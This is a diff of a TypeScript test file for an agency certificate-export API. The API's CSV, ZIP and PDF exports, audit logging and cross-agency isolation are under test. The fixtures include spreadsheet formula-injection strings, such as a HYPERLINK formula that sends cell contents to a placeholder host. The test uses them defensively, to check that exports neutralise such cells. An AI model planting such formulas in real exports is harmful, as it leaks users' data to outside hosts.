@@ -17,12 +17,20 @@ import { revokeCertificate } from '../../functions/storage/agency-certificates';
 
 const SENTINEL = 'ZZSENTINELB';
 /** Cells a spreadsheet would run, typed into a roster (units and emails; names allow letters and .,'- only). */
-const HOSTILE_UNITS = ['=HYPERLINK("http://x.example/?"&A1)', '+62 812 3456', '-2+3', '@SUM(A1:A9)', '   =1+1', 'Bidang\t=Umum', 'Dinas Kesehatan'];
+const HOSTILE_UNITS = [
+  '=HYPERLINK("http://x.example/?"&A1)',
+  '+62 812 3456',
+  '-2+3',
+  '@SUM(A1:A9)',
+  '   =1+1',
+  'Bidang\t=Umum',
+  'Dinas Kesehatan',
+];
 const HOSTILE_EMAILS = ['=cmd@x.example', '+tag@x.example', '-x@x.example', 'biasa@x.example'];
 
 let cookie: string;
 let bCookie: string;
-let bCodes: string[] = [];
+const bCodes: string[] = [];
 const aMembers: Member[] = [];
 
 interface Report {
@@ -49,7 +57,9 @@ async function csvRecords(res: Response): Promise<Record<string, string>[]> {
 function expectDownloadHeaders(res: Response, type: string, ext: string) {
   expect(res.status).toBe(200);
   expect(res.headers.get('content-type')).toContain(type);
-  expect(res.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="[A-Za-z0-9.-]+-\\d{4}-\\d{2}-\\d{2}[a-z0-9-]*\\.${ext}"$`));
+  expect(res.headers.get('content-disposition')).toMatch(
+    new RegExp(`^attachment; filename="[A-Za-z0-9.-]+-\\d{4}-\\d{2}-\\d{2}[a-z0-9-]*\\.${ext}"$`),
+  );
   expect(res.headers.get('cache-control')).toBe('no-store');
   expect(res.headers.get('x-robots-tag')).toContain('noindex');
   for (const [name, value] of Object.entries(API_HEADERS)) if (name !== 'X-Robots-Tag') expect(res.headers.get(name), name).toBe(value);
@@ -124,7 +134,9 @@ beforeAll(async () => {
     .bind(aMembers[2]!.nip, AGENCY_A)
     .run();
   // One of A's certificates revoked: it is exported with its status, and its holder is pending again.
-  const revoked = await env.DB.prepare('SELECT code FROM certificates WHERE nip = ? AND agency_id = ?').bind(aMembers[4]!.nip, AGENCY_A).first<{ code: string }>();
+  const revoked = await env.DB.prepare('SELECT code FROM certificates WHERE nip = ? AND agency_id = ?')
+    .bind(aMembers[4]!.nip, AGENCY_A)
+    .first<{ code: string }>();
   await revokeCertificate(env.DB, scopeFor(AGENCY_A), revoked!.code, 'Uji ekspor', new Date());
   // Agency B: the sentinel as member names, unit and certificate holders.
   const bScope = scopeFor(AGENCY_B, 'agency_admin', adminB.id);
@@ -146,13 +158,26 @@ describe('certificates.csv', () => {
     const r = await report();
     expect(rows.length).toBe(r.totals.certificates + r.totals.revoked);
     expect(rows.length).toBe(await count('SELECT count(*) AS n FROM certificates WHERE agency_id = ?', AGENCY_A));
-    expect(Object.keys(rows[0]!)).toEqual(['NIP', 'Nama', 'Unit kerja', 'Skor', 'Skor maksimal', 'Tanggal terbit', 'Kode sertifikat', 'Status', 'Identitas', 'Tautan verifikasi']);
+    expect(Object.keys(rows[0]!)).toEqual([
+      'NIP',
+      'Nama',
+      'Unit kerja',
+      'Skor',
+      'Skor maksimal',
+      'Tanggal terbit',
+      'Kode sertifikat',
+      'Status',
+      'Identitas',
+      'Tautan verifikasi',
+    ]);
     for (const row of rows) {
       expect(row.NIP).toMatch(/^\d{18}$/);
       expect(row['Tautan verifikasi']).toBe(`${BASE}/verifikasi/${row['Kode sertifikat']}`);
     }
     expect(await count('SELECT count(*) AS n FROM roster_members WHERE agency_id = ? AND left_at IS NULL', AGENCY_A)).toBe(aMembers.length);
-    const onRoster = new Set(rows.filter((row) => row.Status === 'berlaku' && aMembers.some((m) => m.nip === row.NIP)).map((row) => row.NIP));
+    const onRoster = new Set(
+      rows.filter((row) => row.Status === 'berlaku' && aMembers.some((m) => m.nip === row.NIP)).map((row) => row.NIP),
+    );
     expect(onRoster.size).toBe(r.totals.certified);
     expect(rows.map((row) => row.NIP)).toContain(syntheticNip(9200));
     expect(rows.filter((row) => row.Status === 'dicabut').map((row) => row.NIP)).toEqual([aMembers[4]!.nip]);
@@ -160,7 +185,18 @@ describe('certificates.csv', () => {
 
   it('headers in English with ?lang=en', async () => {
     const rows = await csvRecords(await get('/api/admin/exports/certificates.csv?lang=en'));
-    expect(Object.keys(rows[0]!)).toEqual(['NIP', 'Name', 'Work unit', 'Score', 'Maximum score', 'Issued on', 'Certificate code', 'Status', 'Identity', 'Verify link']);
+    expect(Object.keys(rows[0]!)).toEqual([
+      'NIP',
+      'Name',
+      'Work unit',
+      'Score',
+      'Maximum score',
+      'Issued on',
+      'Certificate code',
+      'Status',
+      'Identity',
+      'Verify link',
+    ]);
     expect(rows[0]!['Verify link']).toContain('/en/verify/');
   });
 
@@ -229,7 +265,9 @@ describe('certificates.csv', () => {
     const first = await csvRecords(await get('/api/admin/exports/certificates.csv?cycle=pemilu-2029'));
     expect(first.length).toBe(all.length);
     // A cycle from 1 June 2026: the January certificate stays in pemilu-2029, the rest are the current cycle's.
-    await env.DB.prepare(`INSERT INTO campaigns (id, name, starts_at, due_at) VALUES ('uji-2026', 'Uji', '2026-05-31T17:00:00.000Z', '2027-05-31T17:00:00.000Z')`).run();
+    await env.DB.prepare(
+      `INSERT INTO campaigns (id, name, starts_at, due_at) VALUES ('uji-2026', 'Uji', '2026-05-31T17:00:00.000Z', '2027-05-31T17:00:00.000Z')`,
+    ).run();
     try {
       const old = await csvRecords(await get('/api/admin/exports/certificates.csv?cycle=pemilu-2029'));
       expect(old.map((row) => row.NIP)).toEqual([aMembers[2]!.nip]);
@@ -279,12 +317,20 @@ describe('certificates.zip and certificates.pdf', () => {
       const text = await pdfText(files[name]!);
       for (const code of bCodes) for (const form of encodings(code)) expect(text).not.toContain(form);
       // Not vacuous: the certificate's own code is found by the same search.
-      expect(encodings(name.split('_')[0]!).some((form) => text.includes(form)), name).toBe(true);
+      expect(
+        encodings(name.split('_')[0]!).some((form) => text.includes(form)),
+        name,
+      ).toBe(true);
     }
   });
 
   it('a part past the last is 404; the info route tells how many parts', async () => {
-    const info = (await (await get('/api/admin/exports')).json()) as { parts: number; partSize: number; certificates: number; cycles: unknown[] };
+    const info = (await (await get('/api/admin/exports')).json()) as {
+      parts: number;
+      partSize: number;
+      certificates: number;
+      cycles: unknown[];
+    };
     expect(info).toMatchObject({ parts: 1, partSize: 1000, maxMergedPdf: 200 });
     expect(info.certificates).toBe(await count('SELECT count(*) AS n FROM certificates WHERE agency_id = ?', AGENCY_A));
     const res = await get('/api/admin/exports/certificates.zip?part=2');
@@ -302,15 +348,15 @@ describe('certificates.zip and certificates.pdf', () => {
     expect(doc.getPageCount()).toBe(await count('SELECT count(*) AS n FROM certificates WHERE agency_id = ?', AGENCY_A));
     const text = await pdfText(bytes);
     for (const code of bCodes) for (const form of encodings(code)) expect(text).not.toContain(form);
-    const aCodes = (await env.DB.prepare('SELECT code FROM certificates WHERE agency_id = ?').bind(AGENCY_A).all<{ code: string }>()).results;
+    const aCodes = (await env.DB.prepare('SELECT code FROM certificates WHERE agency_id = ?').bind(AGENCY_A).all<{ code: string }>())
+      .results;
     // Not vacuous: A's codes are found by the same search (most pages; a few streams do not inflate alone).
     expect(aCodes.filter(({ code }) => encodings(code).some((form) => text.includes(form))).length).toBeGreaterThan(0);
   });
 });
 
 describe('audit and faults', () => {
-  const audited = (action: string) =>
-    count('SELECT count(*) AS n FROM audit_events WHERE agency_id = ? AND action = ?', AGENCY_A, action);
+  const audited = (action: string) => count('SELECT count(*) AS n FROM audit_events WHERE agency_id = ? AND action = ?', AGENCY_A, action);
 
   it('every export writes an audit event with its filters', async () => {
     for (const [path, action] of [
@@ -323,7 +369,9 @@ describe('audit and faults', () => {
       await (await get(`/api/admin/exports/${path}`)).arrayBuffer();
       expect(await audited(action), path).toBe(before + 1);
     }
-    const last = await env.DB.prepare(`SELECT detail FROM audit_events WHERE action = 'export.certificates_csv' ORDER BY id DESC LIMIT 1`).first<{
+    const last = await env.DB.prepare(
+      `SELECT detail FROM audit_events WHERE action = 'export.certificates_csv' ORDER BY id DESC LIMIT 1`,
+    ).first<{
       detail: string;
     }>();
     expect(JSON.parse(last!.detail)).toMatchObject({ unitId: 1, from: '2026-01-01', to: null, cycle: 'pemilu-2029' });
